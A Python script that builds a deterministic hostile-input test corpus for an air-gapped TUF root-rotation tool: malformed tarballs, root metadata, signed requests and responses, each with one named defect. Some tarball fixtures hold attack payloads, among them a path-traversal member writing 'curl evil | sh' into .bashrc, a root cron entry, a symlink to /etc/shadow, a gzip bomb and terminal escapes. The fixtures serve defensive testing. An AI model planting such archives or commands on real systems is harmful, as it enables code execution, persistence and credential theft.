"""Regenerate tests/vectors/bad/: the hostile-input corpus, one file per defect.

Run: .venv/bin/python scripts/make_bad_corpus.py
(which calls ``main`` here) — tests/e2e/test_hostile_corpus.py checks that
the committed files equal what this produces and runs each through the CLI that consumes it.

Everything is deterministic: fixed-seed ED25519 keys and identities, a fixed clock and
request ids, an RSA-1024 key from seeded primes, and gzip streams written by the small
deflate encoder below (greedy LZ77 with the fixed Huffman code, plus one hand-built
Huffman block for long runs of zero bytes), so the bytes do not depend on the zlib
build and the gzip bomb stays a few KiB.

Files named ``ok-*`` (and the two ``*.pub`` identities) are the valid baselines the
defects are derived from; every other file carries exactly the defect its name says.
"""

from __future__ import annotations

import bisect
import json
import random
import tarfile
import zlib
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from appliance.core.bundle import Request, Response, answer, make_request, seal
from appliance.core.identity import Identity
from appliance.core.keys import public_key_file
from appliance.core.keysarchive import (
    MAX_MEMBER_BYTES,
    MAX_MEMBERS,
    MAX_UNCOMPRESSED_BYTES,
    KeysArchive,
)
from appliance.core.metadata import RoleKeys, Root, RootMeta, sign_root
from appliance.core.privatekeys import PrivateKey, secret_key_file
from appliance.core.rootops import root_result
from appliance.core.rootpair import RootPair
from appliance.core.rotation import RotationParameters, plan_root_rotation
from appliance.core.strictjson import dumps_compact, dumps_pretty

from .tarballs import Member, tar_bytes

ROOT = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 23, 10, 0, 0, tzinfo=UTC)
EXPIRES = "2036-11-23T10:00:00Z"  # far enough ahead that the corpus does not age into a different defect
STATION = Identity("station", "corpus-station", bytes([0x52]) * 32)
APPLIANCE = Identity("appliance", "corpus-appliance", bytes([0xA2]) * 32)
IMPOSTOR = Identity("appliance", "impostor", bytes([0x66]) * 32)
FOREIGN_STATION = Identity("station", "foreign", bytes([0x67]) * 32)
FACTORY = "acme"
OK_REQUEST_ID = bytes(range(16))
OK_PARAMETERS = {"key_type": "ED25519", "changelog": "corpus rotation", "validity_days": 3660}
OUT = ROOT / "tests" / "vectors" / "bad"


# --- deterministic gzip --------------------------------------------------------------


class _Bits:
    """An LSB-first bit stream as deflate packs it."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.pos = 0  # bits written

    def bits(self, value: int, count: int) -> None:
        for index in range(count):
            if self.pos % 8 == 0:
                self.out.append(0)
            if (value >> index) & 1:
                self.out[-1] |= 1 << (self.pos % 8)
            self.pos += 1

    def code(self, code: int, length: int) -> None:
        """A Huffman code: most significant bit first."""
        self.bits(int(f"{code:0{length}b}"[::-1], 2), length)

    def zeros(self, count: int) -> None:
        missing = (self.pos + count + 7) // 8 - len(self.out)
        self.out.extend(bytes(missing))
        self.pos += count


def _code_table(count: int, first: int, plain: int, per_step: int) -> tuple[tuple[int, ...], tuple[int, ...]]:
    """Base values and extra-bit counts of deflate's length or distance codes (RFC 1951 3.2.5)."""
    extra = [0 if i < plain else (i - plain + per_step) // per_step for i in range(count)]
    base = [first]
    for bits in extra[:-1]:
        base.append(base[-1] + (1 << bits))
    return tuple(base), tuple(extra)


_LENGTH_BASE, _LENGTH_EXTRA = _code_table(28, 3, 8, 4)
_LENGTH_BASE, _LENGTH_EXTRA = (*_LENGTH_BASE, 258), (*_LENGTH_EXTRA, 0)  # code 285: exactly 258
_DIST_BASE, _DIST_EXTRA = _code_table(30, 1, 4, 2)


def _fixed_symbol(out: _Bits, symbol: int) -> None:
    if symbol < 144:
        out.code(0x30 + symbol, 8)
    elif symbol < 256:
        out.code(0x190 + symbol - 144, 9)
    elif symbol < 280:
        out.code(symbol - 256, 7)
    else:
        out.code(0xC0 + symbol - 280, 8)


def _fixed_match(out: _Bits, length: int, distance: int) -> None:
    index = bisect.bisect_right(_LENGTH_BASE, length) - 1
    _fixed_symbol(out, 257 + index)
    out.bits(length - _LENGTH_BASE[index], _LENGTH_EXTRA[index])
    index = bisect.bisect_right(_DIST_BASE, distance) - 1
    out.code(index, 5)
    out.bits(distance - _DIST_BASE[index], _DIST_EXTRA[index])


def _match_length(data: bytes, earlier: int, here: int) -> int:
    """Longest L <= 258 with data[earlier:earlier+L] == data[here:here+L] (binary search on slices)."""
    low, high = 0, min(258, len(data) - here)
    while low < high:
        mid = (low + high + 1) // 2
        if data[earlier : earlier + mid] == data[here : here + mid]:
            low = mid
        else:
            high = mid - 1
    return low


def _fixed_block(out: _Bits, data: bytes, final: bool) -> None:
    """Greedy LZ77 (3-byte hash chains, 32 KiB window) coded with the fixed Huffman tables."""
    out.bits(1 if final else 0, 1)
    out.bits(1, 2)
    chains: dict[bytes, list[int]] = {}
    i = 0
    while i < len(data):
        best_len, best_dist = 0, 0
        for j in reversed(chains.get(data[i : i + 3], [])[-8:]):
            if i - j > 32768:
                break
            length = _match_length(data, j, i)
            if length > best_len:
                best_len, best_dist = length, i - j
        step = best_len if best_len >= 3 else 1
        if step == 1:
            _fixed_symbol(out, data[i])
        else:
            _fixed_match(out, best_len, best_dist)
        for k in range(i, i + step):
            chains.setdefault(data[k : k + 3], []).append(k)
        i += step
    _fixed_symbol(out, 256)


# One dynamic-Huffman block that can only say "byte B", "repeat 258 bytes from distance 1"
# and "end of block": literal/length code lengths {B: 2, 256: 2, 285: 1}, one distance code.
_CL_ORDER = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)
_CL_LENGTHS = {18: 1, 1: 2, 2: 2}  # code-length alphabet: codes 18 -> 0, 1 -> 10, 2 -> 11
_CL_CODES = {18: (0b0, 1), 1: (0b10, 2), 2: (0b11, 2)}


def _zero_lengths(count: int) -> list[tuple[int, int | None]]:
    """``count`` (0 or >= 11) zero code lengths as code-length symbol 18 runs of 11..138."""
    out: list[tuple[int, int | None]] = []
    while count:
        run = min(count, 138)
        if 0 < count - run < 11:
            run = count - 11
        out.append((18, run - 11))
        count -= run
    return out


def _byte_run_block(out: _Bits, byte: int, count: int, final: bool) -> None:
    assert _runnable(byte), "the code-length encoding below has no zero run shorter than 11"
    out.bits(1 if final else 0, 1)
    out.bits(2, 2)  # dynamic Huffman
    out.bits(286 - 257, 5)
    out.bits(0, 5)  # one distance code
    out.bits(len(_CL_ORDER) - 4, 4)
    for symbol in _CL_ORDER:
        out.bits(_CL_LENGTHS.get(symbol, 0), 3)
    # literal/length code lengths: B x 0, 2, (255 - B) x 0, 2, 28 x 0, 1; then the distance code length 1
    lengths = [
        *_zero_lengths(byte),
        (2, None),
        *_zero_lengths(255 - byte),
        (2, None),
        *_zero_lengths(28),
        (1, None),
        (1, None),
    ]
    for symbol, extra in lengths:
        out.code(*_CL_CODES[symbol])
        if extra is not None:
            out.bits(extra, 7)
    out.code(0b10, 2)  # literal B
    repeats, rest = divmod(count - 1, 258)
    out.zeros(2 * repeats)  # length 258 (code 0) + distance 1 (code 0)
    for _ in range(rest):
        out.code(0b10, 2)
    out.code(0b11, 2)  # end of block


def _runnable(byte: int) -> bool:
    """Bytes whose zero code lengths before and after (``byte`` and ``255 - byte``) are 0 or >= 11."""
    return all(count == 0 or count >= 11 for count in (byte, 255 - byte))


def _runs(data: bytes, minimum: int = 512, step: int = 256) -> list[tuple[int, int]]:
    """(start, end) of every run of ``minimum``+ equal runnable bytes; such a run covers a
    whole ``step``-aligned block, so only those blocks are probed, then widened."""
    runs: list[tuple[int, int]] = []
    pos = 0
    while pos + step <= len(data):
        byte = data[pos : pos + 1]
        if _runnable(byte[0]) and data[pos : pos + step] == byte * step:
            start = pos
            floor = runs[-1][1] if runs else 0
            while start > floor and data[start - 1 : start] == byte:
                start -= 1
            end = pos + step
            while end < len(data):
                chunk = data[end : end + 65536]
                rest = len(chunk.lstrip(byte))
                end += len(chunk) - rest
                if rest:
                    break
            if end - start >= minimum:
                runs.append((start, end))
            pos = end
        else:
            pos += step
    return runs


def deflate(data: bytes) -> bytes:
    """A raw deflate stream: runs of 512+ equal bytes compressed ~1000:1, the rest by _fixed_block."""
    out = _Bits()
    runs = _runs(data)
    pieces: list[tuple[str, int, int]] = []
    cursor = 0
    for start, end in runs:
        if start > cursor:
            pieces.append(("fixed", cursor, start))
        pieces.append(("run", start, end))
        cursor = end
    if cursor < len(data) or not pieces:
        pieces.append(("fixed", cursor, len(data)))
    for index, (kind, start, end) in enumerate(pieces):
        final = index == len(pieces) - 1
        if kind == "run":
            _byte_run_block(out, data[start], end - start, final)
        else:
            _fixed_block(out, data[start:end], final)
    return bytes(out.out)


def gzip_bytes(data: bytes) -> bytes:
    header = b"\x1f\x8b\x08\x00" + bytes(4) + b"\x00\xff"  # no name, mtime 0, unknown OS
    trailer = zlib.crc32(data).to_bytes(4, "little") + (len(data) & 0xFFFFFFFF).to_bytes(4, "little")
    return header + deflate(data) + trailer


# --- tarballs --------------------------------------------------------------------------


def tgz(members: Iterable[Member | tuple[str, bytes]], tar_format: int = tarfile.PAX_FORMAT) -> bytes:
    return gzip_bytes(tar_bytes(members, fmt=tar_format))


def with_pax_size(tar: bytes, tag: str, size: str) -> bytes:
    """``tar`` with a PAX ``size`` record added to the member whose PAX ``comment`` is ``tag``."""
    record = f" size={size}\n"
    length = len(record) + 1
    while len(str(length)) + len(record) != length:
        length = len(str(length)) + len(record)
    marker = f"comment={tag}\n".encode()
    assert tar.count(marker) == 1, tag
    header_start = tar.index(marker) // 512 * 512 - 512
    block = bytearray(tar[header_start + 512 : header_start + 1024])
    text = block.rstrip(b"\x00") + f"{length}{record}".encode()
    assert len(text) <= 512
    block[: len(text)] = text
    header = bytearray(tar[header_start : header_start + 512])
    header[124:136] = f"{len(text):011o}\x00".encode()
    header[148:156] = b"        "
    header[148:156] = f"{sum(header):06o}\x00 ".encode()
    return tar[:header_start] + bytes(header) + bytes(block) + tar[header_start + 1024 :]


# --- keys --------------------------------------------------------------------------------


def key(seed: int) -> PrivateKey:
    return PrivateKey.from_ed25519_seed(bytes([seed]) * 32)


def key_files(name: str, private: PrivateKey) -> list[tuple[str, bytes]]:
    return [
        (f"tufrepo/keys/{name}.pub", public_key_file(private.public_key)),
        (f"tufrepo/keys/{name}.sec", secret_key_file(private)),
    ]


def _probable_prime(n: int, rng: random.Random) -> bool:
    if n % 2 == 0:
        return n == 2
    d, s = n - 1, 0
    while d % 2 == 0:
        d, s = d // 2, s + 1
    for _ in range(40):
        x = pow(rng.randrange(2, n - 2), d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def _prime(bits: int, rng: random.Random) -> int:
    while True:
        candidate = rng.getrandbits(bits) | (3 << (bits - 2)) | 1  # top two bits set: p*q has 2*bits bits
        if candidate % 65537 != 1 and _probable_prime(candidate, rng):
            return candidate


def rsa_1024_key_files() -> tuple[bytes, bytes]:
    """``.pub``/``.sec`` of an RSA-1024 key from seeded primes (fioctl format, too short to accept)."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    rng = random.Random(1024)
    p, q = _prime(512, rng), _prime(512, rng)
    e = 65537
    d = pow(e, -1, (p - 1) * (q - 1))
    numbers = rsa.RSAPrivateNumbers(p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p), rsa.RSAPublicNumbers(e, p * q))
    private = numbers.private_key()
    public_pem = private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    private_pem = private.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    )
    return (
        dumps_compact({"keytype": "RSA", "keyval": {"public": public_pem.decode("ascii")}}),
        dumps_compact({"keytype": "RSA", "keyval": {"private": private_pem.decode("ascii")}}),
    )


# --- roots and bundles -----------------------------------------------------------------

ROOT_KEY, OTHER_ROOT_KEY, NEW_ROOT_KEY = key(1), key(7), key(11)
ONLINE = {"targets": key(2), "snapshot": key(3), "timestamp": key(4)}


def root_meta(root_key: PrivateKey, *, version: int = 1, expires: str = EXPIRES) -> RootMeta:
    keys = {root_key.keyid: root_key.public_key} | {k.keyid: k.public_key for k in ONLINE.values()}
    roles = {"root": RoleKeys((root_key.keyid,), 1)} | {r: RoleKeys((k.keyid,), 1) for r, k in ONLINE.items()}
    return RootMeta("Root", version, expires, keys, roles, False)


def history(root_key: PrivateKey) -> dict[str, Any]:
    v1 = sign_root(root_meta(root_key), [root_key]).to_dict()
    return {"ci_roots": [v1], "prod_roots": [v1]}


def request(
    payload: dict[str, Any],
    *,
    request_id: bytes = OK_REQUEST_ID,
    sequence: int = 1,
    operation: str = "rotate-root",
    parameters: dict[str, Any] | None = None,
) -> Request:
    return make_request(
        factory=FACTORY,
        operation=operation,
        parameters=dict(OK_PARAMETERS if parameters is None else parameters),
        payload=payload,
        sequence=sequence,
        now=NOW,
        random_bytes=lambda n: request_id[:n],
    )


def with_body(sealed: bytes, **changes: Any) -> dict[str, Any]:
    body = json.loads(sealed)["bundle"]
    body.update(changes)
    return body


def flip_bit(data: bytes, needle: bytes) -> bytes:
    """Flip the lowest bit of the last byte of ``needle`` (which must occur once)."""
    assert data.count(needle) == 1, needle
    index = data.index(needle) + len(needle) - 1
    return data[:index] + bytes([data[index] ^ 1]) + data[index + 1 :]


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


# --- the corpus --------------------------------------------------------------------------


def _tarballs(ok_files: list[tuple[str, bytes]]) -> dict[str, bytes]:
    pub, sec = ok_files[0], ok_files[1]
    rsa_pub, rsa_sec = rsa_1024_key_files()
    ok_tar = tar_bytes(ok_files)
    # A member with a PAX header (its comment names it) for with_pax_size to add a size record to.
    forced_pax = tar_bytes([*ok_files, Member("tufrepo/roles/x.json", b"{}", pax={"comment": "size-target"})])
    out = {
        "tarball-tar-slip.tgz": tgz([*ok_files, ("tufrepo/../../.bashrc", b"curl evil | sh\n")]),
        "tarball-absolute-path.tgz": tgz([*ok_files, ("/etc/cron.d/evil", b"* * * * * root sh\n")]),
        "tarball-pax-path-override.tgz": tgz(
            [*ok_files, Member("tufrepo/keys/x.pub", pub[1], pax={"path": "../../x.pub"})]
        ),
        "tarball-symlink-member.tgz": tgz(
            [pub, Member("tufrepo/keys/first-root.sec", type=tarfile.SYMTYPE, linkname="/etc/shadow")]
        ),
        "tarball-hardlink-member.tgz": tgz(
            [*ok_files, Member("tufrepo/keys/copy.sec", type=tarfile.LNKTYPE, linkname=sec[0])]
        ),
        "tarball-device-member.tgz": tgz(
            [*ok_files, Member("tufrepo/keys/mem.pub", type=tarfile.CHRTYPE, devmajor=1, devminor=1)]
        ),
        "tarball-fifo-member.tgz": tgz([*ok_files, Member("tufrepo/keys/pipe.pub", type=tarfile.FIFOTYPE)]),
        "tarball-gzip-bomb.tgz": tgz([*ok_files, ("tufrepo/roles/bomb.json", bytes(MAX_UNCOMPRESSED_BYTES + 1))]),
        "tarball-member-too-large.tgz": tgz([*ok_files, ("tufrepo/roles/big.json", bytes(MAX_MEMBER_BYTES + 1))]),
        "tarball-too-many-members.tgz": tgz(
            [*ok_files, *((f"tufrepo/roles/r{i}.json", b"{}") for i in range(MAX_MEMBERS))]
        ),
        "tarball-duplicate-member.tgz": tgz([*ok_files, key_files("first-root", key(9))[0]]),
        # Key files kept but never used to sign: the root key is then missing.
        "tarball-pub-sec-mismatch.tgz": tgz([pub, (sec[0], key_files("x", key(9))[1][1])]),
        "tarball-sec-without-pub.tgz": tgz([sec]),
        "tarball-rsa-1024-key.tgz": tgz(
            [("tufrepo/keys/weak-root.pub", rsa_pub), ("tufrepo/keys/weak-root.sec", rsa_sec)]
        ),
        "tarball-bad-key-json.tgz": tgz([(pub[0], pub[1][:-1] + b',"keytype":"RSA"}'), sec]),
        "tarball-not-gzip.tgz": ok_tar,
        "tarball-truncated-gzip.tgz": gzip_bytes(ok_tar)[: len(gzip_bytes(ok_tar)) // 2],
        "tarball-truncated-tar.tgz": gzip_bytes(ok_tar[:1536]),
        "tarball-two-archives-joined.tgz": gzip_bytes(ok_tar + tar_bytes([key_files("second", key(9))[1]])),
        # PAX size records tarfile takes at face value: negative, and far beyond any cap.
        "tarball-pax-size-negative.tgz": gzip_bytes(with_pax_size(forced_pax, "size-target", "-1024")),
        "tarball-pax-size-absurd.tgz": gzip_bytes(with_pax_size(forced_pax, "size-target", "9" * 40)),
        # Names far longer than any message should echo.
        "tarball-pax-path-4mib.tgz": tgz([*ok_files, ("tufrepo/keys/" + "a" * (4 << 20), b"{}")]),
        "tarball-gnu-longname-10mib.tgz": tgz(
            [*ok_files, ("tufrepo/roles/" + "b" * (10 << 20), b"{}")], tar_format=tarfile.GNU_FORMAT
        ),
        # Terminal escapes, BiDi overrides and NUL in member names must be shown, never acted on.
        "tarball-escape-in-name.tgz": tgz([*ok_files, ("tufrepo/keys/\x1b]0;owned\x07\x1b[2J\u202egpj.pub", b"{}")]),
        "tarball-nul-in-pax-path.tgz": tgz([*ok_files, Member("tufrepo/keys/n.pub", b"{}", pax={"path": "a\x00b"})]),
    }
    return out


def _other_keys_json_id(meta: RootMeta) -> str:
    from appliance.core.keyids import json_keyid

    other = next(key for keyid, key in sorted(meta.keys.items()) if keyid != ROOT_KEY.keyid)
    return json_keyid(other)


def _roots(v1: Root) -> dict[str, bytes]:
    good = v1.to_bytes()
    signed = v1.envelope.signed
    meta = v1.meta
    out = {
        "root-duplicate-json-keys.json": good.replace(b'"version":1', b'"version":1,"version":2', 1),
        "root-nan.json": good.replace(b'"version":1', b'"version":NaN', 1),
        "root-infinity.json": good.replace(b'"version":1', b'"version":-Infinity', 1),
        "root-float-version.json": good.replace(b'"version":1', b'"version":1.0', 1),
        "root-huge-int-version.json": good.replace(b'"version":1', b'"version":' + b"9" * 30, 1),
        "root-bool-version.json": good.replace(b'"version":1', b'"version":true', 1),
        "root-deep-nesting-10k.json": good.replace(
            b'"version":1', b'"version":1,"x-evil":' + nested(10_000).encode(), 1
        ),
        "root-non-ascii-signed-string.json": dumps_compact(
            {**v1.to_dict(), "signed": {**signed, "x-changelog": {"message": "r\u00e9vision"}}}
        ),
        "root-control-char-signed-string.json": dumps_compact(
            {**v1.to_dict(), "signed": {**signed, "x-changelog": {"message": "ring\abell"}}}
        ),
        "root-bom.json": b"\xef\xbb\xbf" + good,
        "root-invalid-utf8.json": good.replace(b'"Root"', b'"R\xc3\x28ot"', 1),
        # The root key listed under the id another listed key has by the JSON rule (fioctl 2021-22).
        "root-keyid-mismatch.json": good.replace(ROOT_KEY.keyid.encode(), _other_keys_json_id(meta).encode()),
        "root-same-key-two-ids.json": dumps_compact(_same_key_twice(v1)),
        "root-threshold-zero.json": good.replace(b'"threshold":1', b'"threshold":0', 1),
        "root-not-an-object.json": b"[" + good + b"]",
        "root-unsigned.json": dumps_compact({**v1.to_dict(), "signatures": []}),
        "root-signed-by-other-key.json": sign_root(meta, [OTHER_ROOT_KEY]).to_bytes(),
    }
    return out


def _same_key_twice(v1: Root) -> dict[str, Any]:
    data = v1.to_dict()
    signed = dict(data["signed"])
    keys = dict(signed["keys"])
    keys["f" * 64] = keys[ROOT_KEY.keyid]
    signed["keys"] = keys
    return {**data, "signed": signed}


def _requests(ok: Request, ok_bytes: bytes, payload: dict[str, Any]) -> dict[str, bytes]:
    other_history = history(OTHER_ROOT_KEY)
    v1 = Root.from_dict(payload["ci_roots"][0])
    v2_bad = sign_root(replace(root_meta(NEW_ROOT_KEY), version=2), [NEW_ROOT_KEY]).to_dict()
    v3 = sign_root(replace(root_meta(ROOT_KEY), version=3), [ROOT_KEY]).to_dict()
    prod_differs = sign_root(replace(v1.meta, consistent_snapshot=True), [ROOT_KEY]).to_dict()
    unsigned_v1 = {**v1.to_dict(), "signatures": []}
    broken_v1 = json.loads(json.dumps(v1.to_dict()).replace(ROOT_KEY.keyid, _other_keys_json_id(v1.meta)))

    def sealed(body: dict[str, Any], signer: Identity = STATION) -> bytes:
        return seal(body, signer)

    def variant(**changes: Any) -> bytes:
        return sealed({**ok.body(), **changes})

    def with_history(ci: list[Any], prod: list[Any], **kw: Any) -> bytes:
        return seal(request({"ci_roots": ci, "prod_roots": prod}, **kw).body(), STATION)

    outer = json.loads(ok_bytes)
    return {
        "request-truncated.json": ok_bytes[: len(ok_bytes) // 2],
        "request-bit-flipped.json": flip_bit(ok_bytes, b"corpus rotation"),
        "request-bad-base64-signature.json": ok_bytes.replace(
            outer["signature"]["sig"].encode(), b"!" + outer["signature"]["sig"][1:].encode()
        ),
        "request-duplicate-json-keys.json": ok_bytes.replace(
            b'"factory": "acme",', b'"factory": "acme",\n    "factory": "evil",', 1
        ),
        "request-float.json": ok_bytes.replace(b'"format_version": 1', b'"format_version": 1.0', 1),
        "request-nan-sequence.json": ok_bytes.replace(b'"sequence": 1', b'"sequence": NaN', 1),
        "request-deep-nesting-10k.json": ok_bytes.replace(
            b'"parameters": {', b'"x": ' + nested(10_000).encode() + b',\n    "parameters": {', 1
        ),
        "request-extra-outer-field.json": dumps_pretty({**outer, "comment": "unsigned extra field"}),
        "request-unknown-field.json": variant(note="signed, but not a field of the format"),
        "request-foreign-station.json": sealed(ok.body(), FOREIGN_STATION),
        "request-is-a-response.json": variant(media_type="application/vnd.tuf-airgap.response+json"),
        "request-wrong-operation.json": variant(operation="rotate-targets"),
        "request-invalid-factory-name.json": variant(factory="../acme"),
        "request-sequence-zero.json": variant(sequence=0),
        "request-sequence-string.json": variant(sequence="2"),
        "request-bad-parameters.json": variant(parameters={"key_type": "DSA", "changelog": ""}),
        # The very request the appliance has completed already, carried again.
        "request-replayed.json": ok_bytes,
        # Valid and never answered, but with sequence 1 again, which the appliance has completed.
        "request-sequence-reused.json": seal(request(payload, request_id=bytes([0x22]) * 16).body(), STATION),
        # A factory name that looks like "acme" but starts with CYRILLIC SMALL LETTER A (the
        # station cannot sign it: bundle strings are printable ASCII; so it arrives as an edit).
        "request-confusable-factory-name.json": ok_bytes.replace(b'"factory": "acme"', b'"factory": "\\u0430cme"', 1),
        # Another factory's root history under this factory's name, after a ceremony for acme.
        "request-wrong-factory.json": seal(
            request(other_history, request_id=bytes([0x23]) * 16, sequence=2).body(), STATION
        ),
        "request-foreign-root-key.json": with_history(other_history["ci_roots"], other_history["prod_roots"]),
        "request-history-gap.json": with_history([v1.to_dict(), v3], [v1.to_dict(), v3]),
        "request-history-bad-signature.json": with_history([v1.to_dict(), v2_bad], [v1.to_dict(), v2_bad]),
        "request-history-unsigned-v1.json": with_history([unsigned_v1], [unsigned_v1]),
        "request-history-malformed-root.json": with_history([broken_v1], [broken_v1]),
        "request-pair-mismatch.json": with_history([v1.to_dict()], [prod_differs]),
        "request-no-history.json": variant(payload={"ci_roots": [], "prod_roots": []}),
    }


def ok_response(ok: Request, payload: dict[str, Any]) -> Response:
    """The appliance's answer to ``ok``: root v2 with the new root key (seed 11)."""
    v1 = Root.from_dict(payload["ci_roots"][0])
    archive = KeysArchive.from_files(dict(key_files("first-root", ROOT_KEY)))
    params = RotationParameters.from_dict(OK_PARAMETERS)
    plan = plan_root_rotation(RootPair(v1, v1), archive, NEW_ROOT_KEY, params, NOW)
    result = replace(root_result(plan.new, [("root", NEW_ROOT_KEY)]), tarball_sha256="0" * 64).to_wire()
    return answer(ok, result, NOW)


def _responses(good: Response, ok: Request, other: Request) -> dict[str, bytes]:
    result = good.result

    def sealed(response: Response, signer: Identity = APPLIANCE) -> bytes:
        return seal(response.body(), signer)

    def new_roots(meta: RootMeta, signers: list[PrivateKey]) -> Response:
        root = sign_root(meta, signers).to_dict()
        return replace(good, result={**result, "ci_root": root, "prod_root": root})

    new_meta = Root.from_dict(result["ci_root"]).meta
    leaked = json.loads(json.dumps(result))
    leaked["ci_root"]["signed"]["keys"][NEW_ROOT_KEY.keyid]["keyval"]["private"] = "00" * 32
    ok_bytes = sealed(good)
    return {
        "response-truncated.json": ok_bytes[: len(ok_bytes) // 2],
        "response-bit-flipped.json": flip_bit(ok_bytes, b'"operation": "rotate-root'),
        "response-foreign-appliance.json": sealed(good, IMPOSTOR),
        "response-is-a-request.json": seal(ok.body(), APPLIANCE),
        "response-for-other-request.json": sealed(replace(good, request_digest=other.digest())),
        "response-unknown-request.json": sealed(answer(other, result, NOW)),
        "response-wrong-factory.json": sealed(replace(good, factory="globex")),
        "response-wrong-operation.json": sealed(replace(good, operation="rotate-targets")),
        "response-root-not-signed-by-old-key.json": sealed(new_roots(new_meta, [NEW_ROOT_KEY])),
        "response-root-version-skip.json": sealed(new_roots(replace(new_meta, version=3), [ROOT_KEY, NEW_ROOT_KEY])),
        "response-root-expired.json": sealed(
            new_roots(replace(new_meta, expires="2020-01-01T00:00:00Z"), [ROOT_KEY, NEW_ROOT_KEY])
        ),
        "response-private-key-in-root.json": sealed(replace(good, result=leaked)),
        "response-private-pem-in-new-keys.json": sealed(
            replace(
                good,
                result={
                    **result,
                    "new_keys": [
                        {
                            **result["new_keys"][0],
                            "note": "-----BEGIN PRIVATE KEY-----\nMC4CAQA=\n-----END PRIVATE KEY-----",
                        }
                    ],
                },
            )
        ),
        "response-unknown-result-field.json": sealed(replace(good, result={**result, "upload_to": "elsewhere"})),
    }


def build() -> dict[str, bytes]:
    ok_files = key_files("first-root", ROOT_KEY)
    payload = history(ROOT_KEY)
    v1 = Root.from_dict(payload["ci_roots"][0])
    ok_files.append(("tufrepo/roles/root.json", dumps_pretty(v1.to_dict())))
    ok = request(payload)
    ok_bytes = seal(ok.body(), STATION)
    other = request(payload, request_id=bytes([0x22]) * 16)
    good = ok_response(ok, payload)
    files = {
        "station.pub": STATION.peer.to_bytes(),
        "appliance.pub": APPLIANCE.peer.to_bytes(),
        "ok-keys.tgz": tgz(ok_files),
        "ok-root.json": v1.to_bytes(),
        "ok-request.json": ok_bytes,
        "ok-response.json": seal(good.body(), APPLIANCE),
    }
    files |= _tarballs(ok_files)
    files |= _roots(v1)
    files |= _requests(ok, ok_bytes, payload)
    files |= _responses(good, ok, other)
    return files


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    files = build()
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    stale = sorted(p.name for p in OUT.iterdir() if p.name not in files)
    for name in stale:
        (OUT / name).unlink()
    print(f"wrote {len(files)} files to {OUT}" + (f"; removed stale {', '.join(stale)}" if stale else ""))


if __name__ == "__main__":
    main()
